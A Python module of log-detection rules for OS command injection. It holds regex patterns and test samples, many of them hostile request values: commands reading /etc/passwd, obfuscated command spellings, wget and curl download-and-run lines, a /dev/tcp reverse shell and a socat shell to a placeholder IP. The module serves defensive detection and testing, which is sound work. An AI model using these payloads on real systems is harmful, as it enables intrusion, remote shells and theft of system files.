"""OS command injection: shell syntax and download-and-run chains in request fields."""

from __future__ import annotations

from lwsyslog.events import Event
from lwsyslog.matching.fold import fold
from lwsyslog.matching.linear import Regex, linear_search
from lwsyslog.normalize import EventView
from lwsyslog.rules.base import ACCESS, BOTH, PAYLOAD_FIELDS, CodeRule, PatternRule, RuleMatch
from lwsyslog.rules.command_shapes import (
    ARGUMENT,
    CHAIN,
    CLOSED,
    END,
    GLOB,
    QUOTE_SPLIT,
    RUN_FILE,
    SHORT_SPLIT,
    STRONG_COMMANDS,
    command,
    joined,
)
from lwsyslog.rules.samples import AccessSample, ErrorSample
from lwsyslog.severity import Severity

__all__ = [
    "CommandArgv",
    "CommandDownloadExec",
    "CommandOutputInErrorLog",
    "CommandQuotedName",
    "CommandServerSideInclude",
    "CommandShellChain",
]

# A command substitution, ``$(...)`` or backticks, run by a shell that reads the field: all
# the rule looks for in a User-Agent, a Cookie or another header, where ";" and "|" are
# ordinary text (``Mozilla/5.0 (X11; Linux x86_64)``).
_SUBSTITUTION = linear_search(
    Regex(
        command(r"(?:`|\$\()[\s+]*(?:/?(?:usr/)?s?bin/)?", "+" + END, ("frag", "frag1"))
        + r"|(?:`|\$\()\s*(?:true|false)\s*[`)]"
    )
)
_HEADER_FIELDS = frozenset({"user_agent", "cookie", "headers"})
# A backslash before a letter, as logged (case-folded): what the shell's reading drops. "\x"
# before two hex digits apart: a byte as Apache's error log escapes it, or a JavaScript
# escape, which the decoded text already reads (its copy has ";id" for "\x3bid"); a shell
# makes "x3b" of it, no command. One RE2 pass: 26 substring tests cost 0.5-0.8 ms on 32 KB.
_ESCAPED_LETTER = linear_search(Regex(r"\\(?:[a-wyz]|x(?:$|[^0-9a-f]|[0-9a-f](?:$|[^0-9a-f])))"))


def _shell_differs(raw: str) -> bool:
    """Whether the shell's reading of a field (case-folded ``raw``) can differ from the
    decoded one: a backslash before a letter (not an escaped byte, ``\\x1b``), or an encoded
    backslash. A field of 8,000 escaped bytes is not decoded a second time."""
    if "%5c" in raw or "255c" in raw:
        return True
    return "\\" in raw and _ESCAPED_LETTER.search(raw) is not None


class CommandShellChain(PatternRule):
    """A shell separator or substitution followed by a command (``;id``, ``|cat``, ``$(...)``).

    Also a whole parameter value that is a command closed by a separator (``id;``, ``whoami|``):
    the payload for a value pasted at the start of a command line. Only the words that are no
    English count there, and only when nothing follows the separator (``fields=id|name`` is
    a list). Nor does a command word between two items of a list count: followed by the
    separator again and a word that is no command (``fields=name;id;email``, ``kinds=dog|cat|
    bird``), it is an item. An injection written as such a list (``x;id;x``) is missed for
    that; ``x;id``, ``x;id;`` and ``x;id;ls`` are not.

    In the User-Agent, the Cookie and other logged headers only a command substitution counts
    (``$(sleep 10)``, a backtick ``nslookup``): ";" separates a User-Agent's comments and a
    Cookie's pairs.

    A field holding a backslash is also read as a shell reads it, the backslash before a
    letter dropped (``;w\\hoami`` runs ``whoami``, ``;i\\d`` runs ``id``): decoding reads a
    backslash as ``/`` (``;w/hoami``), for the path rules. A field holding an empty expansion
    is also read without it (``;wh$@oami``, ``;who$()ami``: :func:`.command_shapes.joined`).

    After ``;``, ``|`` or a line break, which ordinary text also writes ("dogs; cat food",
    a page title "Pet Shop | Echo Dot", a textarea's "id like to ask"), a command word counts
    closing the value or with arguments shaped like a command's (an option, a path, a file,
    a number); after a space there, a word that is also English (cat, echo, sleep) needs the
    arguments. A backtick counts where a value starts or after a separator, not where it
    quotes an SQL identifier (``ORDER BY `orders`.`id```).
    """

    id = "command-injection-chain"
    categories = ("command-injection",)
    severity = Severity.CRITICAL
    description = "shell separator or substitution followed by a command (;id, |cat, $(...))"
    logs = BOTH
    fields = ("target", "referer", "message", "user_agent", "cookie", "headers")
    # A backslash, as logged or percent-encoded (%5c, %255c, %25255c): the rarer spellings
    # (an HTML reference, %u005c) would have every field of such entities decoded twice.
    raw_literals = dict.fromkeys(fields, frozenset({"\\", "%5c", "255c"}))
    # Also the shell's own obfuscations: ${IFS} for a space, quotes splitting a command name
    # (c''at, c'a't), and ?-globs standing for one (/???/c?t).
    pattern = Regex(
        CHAIN + rf"|(?P<frag2>&\s+{STRONG_COMMANDS})(?:$|[{END}])"
        r"|(?:`|\$\()\s*(?:true|false)\s*[`)]"
        rf"|(?P<frag3>=\s*(?:/(?:usr/)?s?bin/)?{STRONG_COMMANDS}\s*[;|]+\s*)(?:$|&)"
        r"|\$\{?ifs\b|(?:[;|`\n]|&&|\$\()\s*[a-z]{1,10}(?:''|\"\")[a-z]"
        rf"|(?P<frag5>(?:[;|`\n]|&&|\$\()[\s+]*(?:{QUOTE_SPLIT}|{SHORT_SPLIT}))"
        rf"(?:{CLOSED}|{ARGUMENT})"
        r"|/\?{3}/[\w?]{0,10}\?"
        r"|(?P<frag4>;\s*\$[a-z_]\w*(?:\$[a-z_]\w*|\$\{\w+\})*)\s*(?:$|[;|&`])"
        + GLOB
        + RUN_FILE
        + rf"|\{{(?:{STRONG_COMMANDS}|cat|wget|curl|nc|ncat|bash|sh|ls|chmod|perl|python),"
        r"(?:/|[a-z]{2,8}://|-|\+x)"
    )
    gate = ";|`\n$&"
    must_match = (
        AccessSample(target="/ping.php?host=127.0.0.1;id"),
        AccessSample(target="/ping.php?host=127.0.0.1;cat$%7BIFS%7D/etc/passwd"),
        AccessSample(target="/ping.php?host=x;c''at%20/etc/hosts"),
        AccessSample(target="/ping.php?host=x|/???/c?t%20/etc/passwd"),
        AccessSample(target="/ping.php?host=127.0.0.1%7Ccat%20/etc/passwd"),
        AccessSample(target="/diag?ip=8.8.8.8%0Auname%20-a"),
        AccessSample(target="/diag?ip=%24(whoami)"),
        AccessSample(target="/diag?ip=%60id%60"),
        AccessSample(target="/diag?ip=1.2.3.4%3Bnetstat%20-an%3B"),
        AccessSample(target="/diag?ip=1.2.3.4%20%26%20whoami"),
        AccessSample(target="/diag?ip=1.2.3.4%7C%2Bdir%2Bc:/"),
        AccessSample(target="/diag?flag=%60false%60"),
        AccessSample(target="/diag?ip=id%3B"),
        AccessSample(target="/diag?ip=x;id;ls"),
        AccessSample(target="/diag?ip=x;id;&go=1"),
        AccessSample(target="/diag?ip=x|cat|id"),
        AccessSample(target="/diag?ip=whoami%7C&submit=go"),
        AccessSample(target="/diag?ip=x%26%20sleep%2010"),
        AccessSample(target="/diag?ip=x%26%20net%20view"),
        AccessSample(target="/diag?ip=%3BCMD%3D%24%27id%27%3B%24CMD"),
        AccessSample(target="/diag?ip=x%7Cusr/bin/id"),
        AccessSample(target="/diag?ip=x;%7Bcat,/etc/passwd%7D"),
        AccessSample(target="/diag?ip=%7Bwget,http://198.51.100.9/x%7D"),
        AccessSample(target="/ping.php?ip=127.0.0.1;c'a't%20/e't'c/pa's'swd"),
        AccessSample(target="/ping.php?ip=127.0.0.1;who'am'i"),
        AccessSample(target="/ping.php?ip=127.0.0.1%7Cc%22a%22t%20/etc/hosts"),
        AccessSample(target="/ping.php?ip=127.0.0.1;id%23"),
        AccessSample(target="/ping.php?ip=127.0.0.1|whoami%23"),
        AccessSample(target="/", user_agent="$(sleep 10)"),
        AccessSample(target="/", user_agent="Mozilla/5.0 `nslookup abc.oast.example`"),
        AccessSample(target="/", cookie="lang=$(sleep 10)"),
        AccessSample(target="/", headers=(("X-Forwarded-For", "`id`"),)),
        AccessSample(target="/ping.php?ip=127.0.0.1;i'd'"),
        AccessSample(target="/ping.php?ip=127.0.0.1;l's'%20-la"),
        AccessSample(target="/ping.php?ip=127.0.0.1%7C%27p%27s"),
        AccessSample(target="/ping.php?ip=127.0.0.1;w\\hoami"),
        AccessSample(target="/ping.php?ip=127.0.0.1;i\\d"),
        AccessSample(target="/ping.php?ip=127.0.0.1%7Cc%5Ca%5Ct%20/etc/passwd"),
        AccessSample(target="/", user_agent="$(w\\hoami)"),
        # "\x" before no two hex digits is the shell's escape; escaped bytes ("\x1b") are not.
        AccessSample(target="/ping.php?ip=127.0.0.1;\\xxd%20index.php"),
        AccessSample(target="/ping.php?ip=\\x1b\\x00127.0.0.1;w\\hoami"),
        # A command with the arguments that make it one, after a separator and a space.
        AccessSample(target="/ping.php?ip=127.0.0.1%7C%20nc%201.2.3.4%204444"),
        AccessSample(target="/ping.php?ip=127.0.0.1;%20sleep%205"),
        AccessSample(target="/ping.php?ip=127.0.0.1%20|%20whoami"),
        AccessSample(target="/ping.php?ip=127.0.0.1;curl%20http://198.51.100.9/"),
        AccessSample(target="/ping.php?ip=127.0.0.1%0Aid"),
        # Globs, empty expansions and a backslash-newline inside the name; a subshell; a
        # command built from variables (all run by dash, what PHP's system() calls).
        AccessSample(target="/ping.php?ip=127.0.0.1;/bin/wh?ami"),
        AccessSample(target="/ping.php?ip=127.0.0.1;/usr/bin/who*i"),
        AccessSample(target="/ping.php?ip=127.0.0.1;who$()ami"),
        AccessSample(target="/ping.php?ip=127.0.0.1;wh$@oami"),
        AccessSample(target="/ping.php?ip=127.0.0.1;w$%7Bx%7Dhoami"),
        AccessSample(target="/ping.php?ip=127.0.0.1|c$@at%20index.php"),
        AccessSample(target="/ping.php?ip=127.0.0.1;w%5C%0Ahoami"),
        AccessSample(target="/ping.php?ip=127.0.0.1;$(printf%20id)"),
        AccessSample(target="/ping.php?ip=127.0.0.1;(id)"),
        AccessSample(target="/ping.php?ip=127.0.0.1;a=wh;b=oami;$a$b"),
        # More readers and tools, and files run by their path.
        AccessSample(target="/ping.php?ip=127.0.0.1;tac%20index.php"),
        AccessSample(target="/ping.php?ip=127.0.0.1;head%20-c%20999%20config.php"),
        AccessSample(target="/ping.php?ip=127.0.0.1;socat%20tcp:1.2.3.4:4444%20exec:bash"),
        AccessSample(target="/ping.php?ip=127.0.0.1;awk%20'%7Bprint%7D'%20/etc/passwd"),
        AccessSample(target="/ping.php?ip=127.0.0.1;find%20/%20-name%20x"),
        AccessSample(target="/ping.php?ip=127.0.0.1;./x.sh"),
        AccessSample(target="/ping.php?ip=127.0.0.1;/tmp/x"),
        AccessSample(target="/ping.php?ip=127.0.0.1;.%20/tmp/x"),
        # A backtick substitution where a value starts or after a separator.
        AccessSample(target="/ping.php?ip=;%60id%60"),
        AccessSample(target="/cgi-bin/echo?name=a%60sleep+60%60"),
        AccessSample(target="/cgi-bin/x?q=()%20%7B%20:;%7D;%20echo%20vulnerable"),
        # Error lines quoting an injected request.
        ErrorSample(message="AH00126: Invalid URI in request GET /ping.php?ip=1;id HTTP/1.1"),
        ErrorSample(
            message='ModSecurity: Access denied with code 403 (phase 2). [data "Matched Data: '
            ';cat /etc/passwd found within ARGS:ip: 127.0.0.1;cat /etc/passwd"]',
            module="security2",
        ),
    )
    must_not_match = (
        AccessSample(target="/shop;jsessionid=0AB12CD34?cat=shoes"),
        AccessSample(target="/search?q=tom+%26+jerry&id=5"),
        AccessSample(target="/api/items?fields=name|title&sort=-id"),
        AccessSample(target="/search?q=dog+%26+cat&id&ls"),
        AccessSample(target="/search?q=rock+%26+roll;+dir+straits"),
        AccessSample(target="/api/items?fields=id|name|price"),
        AccessSample(target="/api/items?fields=name;id;email"),
        AccessSample(target="/api/items?fields=name;+id;+email"),
        AccessSample(target="/pets?kinds=dog;cat;bird"),
        AccessSample(target="/pets?kinds=dog%7Ccat%7Chamster"),
        AccessSample(target="/api/items?sort=id;desc"),
        AccessSample(target="/search?q=rock+%26+sleep+tight"),
        AccessSample(target="/search?q=a+%7C+b+%7C+c"),
        AccessSample(target="/search?q=price+%7C+%24100"),
        AccessSample(target="/shop;jsessionid=1?x=%24total"),
        AccessSample(target="/api?fields={cat,dog}"),
        AccessSample(target="/api?fields={id,name,ls,price}"),
        AccessSample(target="/search?q=tom;o'neil's+cat"),
        AccessSample(target="/search?q=a;i'd+like+a+cat"),
        AccessSample(target="/search?q=apostrophes;+i%27d+and+l%27s"),
        AccessSample(target="/search?q=tom;i'd've+said"),
        AccessSample(target="/search?q=c%23;+f%23;+language+list%23top"),
        AccessSample(target="/", user_agent="Mozilla/5.0 (X11; Linux x86_64; id) Gecko/20100101"),
        AccessSample(target="/", cookie="theme=dark; id=5; sh=1; ls=2"),
        AccessSample(target="/", user_agent="Mozilla/5.0 (compatible; curl-like; +http://x/)"),
        AccessSample(target="/files?list=C:%5Cdata;D:%5Cid%5Cnew"),
        AccessSample(target="/search?q=tom;%5Cn+cat+pictures"),
        AccessSample(target="/", user_agent="Mozilla/5.0 (Windows; U; x\\id)"),
        # Search text and page titles: a command word followed by an ordinary word.
        AccessSample(target="/search?q=dogs;+cat+food"),
        AccessSample(target="/search?q=ping+pong;+echo+chamber"),
        AccessSample(target="/search?q=tips;+sleep+better"),
        AccessSample(target="/search?q=tips;+sleep+8+hours"),
        AccessSample(target="/search?q=news;+curl+up+with+a+book"),
        AccessSample(target="/search?q=brooklyn+%7C+ping+pong+bar"),
        AccessSample(target="/search?q=fish+%26+chips;+id+badge"),
        AccessSample(target="/search?q=dogs;+cat+food."),
        AccessSample(target="/matomo.php?action_name=Pet%20Shop%20|%20Cat%20Food&idsite=1"),
        AccessSample(target="/matomo.php?action_name=Pet%20Shop%20|%20Sleep%20Better"),
        AccessSample(target="/matomo.php?action_name=Pet%20Shop%20|%20Ping%20Test"),
        AccessSample(target="/matomo.php?action_name=Pet%20Shop%20|%20Id%20card"),
        AccessSample(target="/matomo.php?action_name=Pet%20Shop%20|%20Echo%20Dot"),
        AccessSample(target="/matomo.php?action_name=Pet%20Shop%20|%20Curl%20cream"),
        AccessSample(target="/matomo.php?action_name=Pet%20Shop%20|%20Bash%20party"),
        AccessSample(target="/matomo.php?action_name=Art%20|%20Nc%20Wyeth&idsite=1"),
        AccessSample(target="/matomo.php?action_name=dog%20|%20cat&idsite=1"),
        AccessSample(target="/matomo.php?action_name=Shop%20|%20Cat%20$5%20deal"),
        AccessSample(target="/matomo.php?action_name=Shop%20|%20Cat%20(2024)"),
        AccessSample(target="/contact?msg=Hello%0D%0Aid+like+to+ask+about+pricing"),
        AccessSample(target="/contact?msg=Thanks!%0D%0AEcho+Park+office"),
        AccessSample(target="/contact?msg=Hi%0D%0Ahead+office+is+closed"),
        AccessSample(target="/search?q=ps+aux+%7C+grep+nginx"),
        # SQL identifiers in backticks (phpMyAdmin's own sort link).
        AccessSample(
            target="/phpmyadmin/sql.php?sql_query=SELECT+%2A+FROM+%60orders%60+%0AORDER+BY+"
            "%60orders%60.%60id%60+DESC"
        ),
        AccessSample(target="/pma/sql.php?sql_query=SELECT+%60id%60,+%60ls%60+FROM+%60t%60"),
        AccessSample(target="/pma/sql.php?sql_query=SELECT+COUNT(%60id%60)+FROM+%60t%60"),
        # Near misses of the globs, expansions and files run by path.
        AccessSample(target="/files?list=/usr/bin/*"),
        AccessSample(target="/search?q=dot;.net+core"),
        AccessSample(target="/api?paths=/tmp/a.txt;/tmp/b.txt"),
        AccessSample(target="/search?q=price;us$@home"),
        AccessSample(target="/tpl?s=hello;$%7Bname%7D+world"),
        AccessSample(target="/search?q=tom;(cat+lovers)"),
        AccessSample(target="/paste?code=int+f()+%7B+x;+%7D;+echo+chamber"),
        # PHP-FPM joins several PHP messages with "; PHP message:".
        ErrorSample(
            message="Got error 'PHP message: PHP Deprecated: foo() is deprecated in "
            '/var/www/x.php on line 40; PHP message: PHP Warning: Undefined array key "a" '
            "in /var/www/y.php on line 12'",
            code="AH01071",
            module="proxy_fcgi",
        ),
    )

    def match_field(self, field: str, text: str) -> str | None:
        """The match in ``text``, else in ``text`` as a shell joins it (:func:`joined`); in a
        header field only a command substitution."""
        search = _SUBSTITUTION.search if field in _HEADER_FIELDS else self.linear.search
        fragment = search(text)
        if fragment is None and ("$" in text or "/\n" in text):
            read = joined(text)
            if read != text:
                fragment = search(read)
        return fragment

    def evaluate(self, event: Event, view: EventView) -> RuleMatch | None:
        """The match in the decoded fields, else in the fields holding a backslash as a
        shell reads them (:meth:`~lwsyslog.normalize.EventView.shell`)."""
        match = super().evaluate(event, view)
        if match is not None:
            return match
        for name in self.fields:
            if self.raw_holds(view, name) and _shell_differs(fold(view.raw(name))):
                fragment = self.match_field(name, view.shell(name))
                if fragment is not None:
                    return RuleMatch(name, fragment)
        return None


class CommandDownloadExec(PatternRule):
    """Download-and-run or shell-spawning command lines (``wget http://``, ``cmd.exe /c``)."""

    id = "command-injection-exec"
    categories = ("command-injection",)
    severity = Severity.CRITICAL
    description = "download-and-execute or shell invocation (wget http://, /bin/sh, cmd.exe /c)"
    logs = BOTH
    fields = PAYLOAD_FIELDS
    pattern = Regex(
        r"\b(?:wget|curl|fetch|lwp-download|tftp)\s+(?:-{1,2}[\w-]+\s+(?:[^\s:]+\s+)?){0,4}"
        r"(?:https?|ftp|tftp)://"
        r"|\bchmod\s+(?:[0-7]{3,4}|[ugoa]*\+x)\s"
        r"|(?:^|[^\w-])(?P<frag>/bin/(?:ba|da|z|k|c)?sh)\b|/dev/(?:tcp|udp)/"
        r"|\b(?:nc|ncat|netcat)\s+(?:-\w+\s+){0,4}\S+\s+\d{2,5}\b"
        r"|\bcmd(?:\.exe)?\s*\??\s*/[ck]\b"
        r"|\bpowershell(?:\.exe)?\s+-(?:e|enc|encodedcommand|nop|w|c|command)\b"
        r"|\bbase64\s+-d\b|\b(?:python[23]?|perl|ruby|sh|bash)\s+-[ce]\s"
        r"|\b(?:echo|printf?)\s+['\"][^\n]*['\"]\s*>>?\s*[\w./-]+"
        r"\.(?:php\d?|phtml|aspx?|jspx?|cgi|pl|sh)\b"
    )
    words = frozenset(
        {
            "wget", "curl", "fetch", "tftp", "lwp", "chmod", "bin", "dev", "nc", "ncat", "netcat",
            "cmd", "powershell", "base64", "python", "python2", "python3", "perl", "ruby", "sh",
            "bash",
        }
    )  # fmt: skip
    gate = " \n;|`"
    must_match = (
        AccessSample(target="/cgi-bin/x?c=cd%20/tmp;wget%20http://198.51.100.9/bot.sh"),
        AccessSample(target="/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir"),
        AccessSample(
            target="/",
            user_agent="curl -s http://198.51.100.9/x | bash -c "
            "'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1'",
        ),
        ErrorSample(message="AH01215: sh: 1: wget -q -O- http://198.51.100.9/m.sh: not found"),
        AccessSample(
            target="/p?x=%26%20echo%20%22%3C%3Fphp%20phpinfo();%20%3F%3E%22%20%3E%20x.php"
        ),
    )
    must_not_match = (
        AccessSample(target="/cgi-bin/status.cgi?show=uptime"),
        AccessSample(target="/downloads/curl-8.5.0.tar.gz", user_agent="curl/8.5.0"),
        AccessSample(target="/docs/commands?name=chmod"),
        AccessSample(target="/search?q=%22a%22+%3E+b.php"),
    )


class CommandArgv(PatternRule):
    """A command line without a separator: a command word with the arguments it is run with.

    ``ping -n 30 127.0.0.1``, ``dir c:/``, ``netstat -an``, ``ls -la``, ``type c:\\boot.ini``,
    ``nslookup x.example``, ``timeout /t 10``, a value that is just ``sleep 5`` (a time-based
    blind probe), an absolute path into a binary directory (``/usr/bin/id``), or a shell-running
    function given a command string (``system('id')``): what a parameter holds when it is passed
    whole to a shell.
    """

    id = "command-injection-argv"
    categories = ("command-injection",)
    severity = Severity.HIGH
    description = "command line in a parameter (ping -n 30, dir c:, /usr/bin/id, system('id'))"
    logs = BOTH
    fields = ("query", "cookie")
    pattern = Regex(
        r"\bping(?:\.exe)?[\s+]+(?:-[a-z][\s+]*\d+[\s+]+)*(?:-[a-z][\s+]*\d|\d{1,3}\.\d{1,3}\.)"
        r"|\bdir[\s+]+(?:/[a-z][\s+]+)*[a-z]:(?:[/\s+]|$)|\bnetstat[\s+]+-[a-z]{1,4}\b"
        r"|\bls[\s+]+-[a-z]{0,3}l[a-z]{0,3}\b"
        # A file reader, with up to three options ("tail -n 1"), given a system file.
        r"|\b(?:cat|tac|nl|head|tail|more|less|type|sort|strings|od|xxd)[\s+]+"
        r"(?:-{1,2}[a-z][\w=]{0,15}[\s+]+(?:\d{1,6}[\s+]+)?){0,3}"
        r"(?:/(?:etc|proc|root|home|var|tmp|dev)/|[a-z]:/|%[a-z_]+%/)"
        r"|\bfind[\s+]+/\S*[\s+]+-(?:i?name|perm|type|user|writable|exec|newer|size)\b"
        r"|\brm[\s+]+-[rf]{1,2}[\s+]+/|\bkill[\s+]+-(?:9|kill|hup)[\s+]+-?\d"
        r"|\bshutdown(?:\.exe)?[\s+]+[-/][rshpf]\b|\bxterm[\s+]+-display\b"
        r"|(?P<frag>(?:^|=)\s*sleep[\s+]+\d{1,3}(?:\.\d+)?\s*)(?:\n?$|[&;|])"
        r"|\bnet(?:\.exe)?[\s+]+(?:localgroup|user[\s+]+\S+[\s+]+\S+[\s+]*/add)\b"
        r"|\bnetsh(?:\.exe)?[\s+]+(?:firewall|advfirewall|interface|wlan|winhttp)\b"
        r"|\bnslookup[\s+]+(?:-\S+[\s+]+)*[\w-]+(?:\.[\w-]+)+"
        r"|\btimeout(?:\.exe)?[\s+]+/t[\s+]*\d|"
        + command(r"(?:^|[=\s;|&`'\"(])/?(?:usr/(?:local/)?)?s?bin/", "+" + END, ("frag1", "frag2"))
        + "|"
        + command(
            r"\b(?:system|exec|shell_exec|passthru|popen|proc_open|eval)\s*\(\s*['\"`]\s*"
            r"(?:/(?:usr/)?s?bin/)?",
            END,
            ("frag3", "frag4"),
        )
    )
    words = frozenset(
        {
            "ping", "exe", "dir", "netstat", "ls", "bin", "sbin", "system", "exec", "shell_exec",
            "passthru", "popen", "proc_open", "cat", "tac", "nl", "head", "tail", "more", "less",
            "type", "sleep", "nslookup", "timeout", "sort", "strings", "od", "xxd", "find", "rm",
            "kill", "shutdown", "xterm",
        }
    )  # fmt: skip
    gate = " +/("
    must_match = (
        AccessSample(target="/diag?host=ping%20-c%2020%20127.0.0.1"),
        AccessSample(target="/diag?host=ping.exe%20-n%2031%20127.0.0.1"),
        AccessSample(target="/diag?path=dir%20c:/"),
        AccessSample(target="/diag?x=/usr/bin/whoami"),
        AccessSample(target="/diag?x=/bin/ls%20-la%20/tmp"),
        AccessSample(target="/diag?x=%3Bsystem(%27uname%20-a%27)"),
        AccessSample(target="/diag?x=head%20/etc/hostname"),
        AccessSample(target="/diag?x=type%20c:%5Cwindows%5Cwin.ini"),
        AccessSample(target="/diag?host=sleep%2010&go=1"),
        AccessSample(target="/diag?host=nslookup%20abc123.oast.example"),
        AccessSample(target="/diag?host=x%7Ctimeout%20/T%2015"),
        AccessSample(target="/diag?x=net%20localgroup%20Administrators%20hacker%20%2FADD"),
        AccessSample(target="/diag?x=netsh%20firewall%20set%20opmode%20disable"),
        AccessSample(target="/diag?x=eval(%27whoami%27)"),
        AccessSample(target="/diag?x=x%7Ctail%20-n%201%20/etc/passwd"),
        AccessSample(target="/diag?x=x;find%20/%20-perm%20-4000"),
        AccessSample(target="/diag?x=x;rm%20-rf%20/tmp/x"),
        AccessSample(target="/diag?x=a%7Ckill%20-9%201"),
        AccessSample(target="/diag?x=a%7Cshutdown%20-r"),
        AccessSample(target="/diag?x=a;xterm%20-display%20198.51.100.9:0"),
    )
    must_not_match = (
        AccessSample(target="/search?q=ping+pong+table"),
        AccessSample(target="/search?q=dir+en+grey+tour"),
        AccessSample(target="/cgi-bin/status.cgi?show=uptime"),
        AccessSample(target="/docs?page=system(admin)+guide"),
        AccessSample(target="/files?path=/home/user/bin/readme.txt"),
        AccessSample(target="/search?q=more+/r/cats"),
        AccessSample(target="/search?q=sleep+5+hours+a+night"),
        AccessSample(target="/search?q=nslookup+command+examples"),
        AccessSample(target="/search?q=type+a+letter"),
        AccessSample(target="/search?q=net+user+guide"),
        AccessSample(target="/search?q=eval(x)+in+javascript"),
        AccessSample(target="/search?q=sort+by+date"),
        AccessSample(target="/search?q=find+a+dentist"),
        AccessSample(target="/search?q=shutdown+windows+10+from+keyboard"),
        AccessSample(target="/search?q=kill+-9+vs+kill+-15"),
        AccessSample(target="/search?q=tail+-f+log+file"),
    )


class CommandOutputInErrorLog(CodeRule):
    """The output of ``id`` in the error log: a CGI script's stderr (AH01215) or a PHP message
    carrying what an injected command printed. No script prints that on its own."""

    id = "command-output-in-error-log"
    categories = ("command-injection",)
    severity = Severity.HIGH
    description = "output of the id command (uid=33(www-data) gid=...) in the error log"
    pattern = Regex(r"\buid=\d+\([\w.-]+\) gid=\d+\(")
    trigger = r"uid=\d"
    must_match = (
        ErrorSample(
            message="uid=33(www-data) gid=33(www-data) groups=33(www-data): "
            "/usr/lib/cgi-bin/status.cgi",
            code="AH01215",
            module="cgi",
        ),
        ErrorSample(message="PHP Warning:  uid=48(apache) gid=48(apache) groups=48(apache)"),
    )
    must_not_match = (
        ErrorSample(message="AH01215: status=ok uid=33 ready: /usr/lib/cgi-bin/status.cgi"),
        ErrorSample(message="suexec policy violation: uid: (1000/alice) gid: (1000/alice)"),
        ErrorSample(message="File does not exist: /var/www/html/uid=33(www-data)"),
    )


class CommandServerSideInclude(PatternRule):
    """A server-side include directive (``<!--#exec cmd="id"-->``) sent in a request."""

    id = "command-injection-ssi"
    categories = ("command-injection",)
    severity = Severity.CRITICAL
    description = "server-side include directive (<!--#exec cmd=, <!--#include virtual=)"
    logs = BOTH
    fields = PAYLOAD_FIELDS
    pattern = Regex(
        r"<!--\s*#\s*(?:exec\s+(?:cmd|cgi)|include\s+(?:virtual|file)|printenv|echo\s+var"
        r"|config\s+\w+|set\s+var|fsize|flastmod)\b"
    )
    trigger = r"<!--\s*#"
    gate = "<"
    must_match = (
        AccessSample(target="/guestbook?msg=%3C!--%23exec%20cmd=%22ls%20-la%22--%3E"),
        AccessSample(target="/p?x=%3C!--%23include%20virtual=%22/etc/passwd%22--%3E"),
        AccessSample(target="/", user_agent="<!--#printenv -->"),
    )
    must_not_match = (
        AccessSample(target="/p?html=%3C!--+comment+--%3E"),
        AccessSample(target="/p?tag=%23exec+summary"),
    )


class CommandQuotedName(PatternRule):
    """A whole parameter value that is a quoted harmless command: ``'uname'``, ``'id'``, ``'true'``.

    Also a quote and a command name that is no word (``' whoami``) and ``which`` asked about
    a tool (``which curl``): probes for what the shell can run.

    Blind command-injection probes (commix, fuzzdb): the quotes show the sender expects a shell
    to evaluate the value, and the command only prints who or where the process is or sets an
    exit status, so the answer (or its timing) tells the prober the injection works. Bare
    ``id`` or ``true`` are everyday values (``?sort=id``) and stay unflagged. Double quotes are
    also how people search for an exact phrase and how JSON writes a string, so inside them
    only command names that are no ordinary word or value count (``"whoami"``, not ``"true"``).
    """

    id = "command-injection-quoted-command"
    categories = ("command-injection",)
    severity = Severity.MEDIUM
    description = "a parameter value that is only a quoted command name ('uname', 'id', 'true')"
    logs = ACCESS
    fields = ("query",)
    pattern = Regex(
        r"(?P<frag>(?:^|[=&])(?:'(?:id|uname|whoami|hostname|pwd|ifconfig|ipconfig|systeminfo"
        r"|true|false)'"
        r"|\"(?:uname|whoami|ifconfig|ipconfig|systeminfo)\""
        r"|['\"`]\s*(?:whoami|uname|ifconfig|ipconfig|systeminfo)"
        r"|which\s+(?:curl|wget|gcc|cc|perl|python[23]?|nc|ncat|netcat|socat|nmap|bash|php"
        r"|ruby)))(?:\n?$|&)"
    )
    words = frozenset(
        {
            "id", "uname", "whoami", "hostname", "pwd", "ifconfig", "ipconfig", "systeminfo",
            "true", "false",
        }
    )  # fmt: skip
    gate = "'\""
    must_match = (
        AccessSample(target="/diag?host=%27uname%27"),
        AccessSample(target="/diag?host=%27id%27&go=1"),
        AccessSample(target="/diag?flag=%27false%27"),
        AccessSample(target="/diag?x=1&flag='true'"),
        AccessSample(target="/diag?user=%22whoami%22"),
        AccessSample(target="/diag?user=%27%20whoami"),
        AccessSample(target="/diag?user=which%20curl"),
    )
    must_not_match = (
        AccessSample(target="/api/items?sort=id"),
        AccessSample(target="/api/items?active=true&deleted=false"),
        AccessSample(target="/search?q=%22true%22"),
        AccessSample(target="/search?q=%22id%22"),
        AccessSample(target="/search?q=%27uname%27+manual+page"),
        AccessSample(target="/search?q=o%27id%27s"),
        AccessSample(target="/search?q=which+curling+club"),
        AccessSample(target="/search?q=which+perl+necklace+to+buy"),
    )
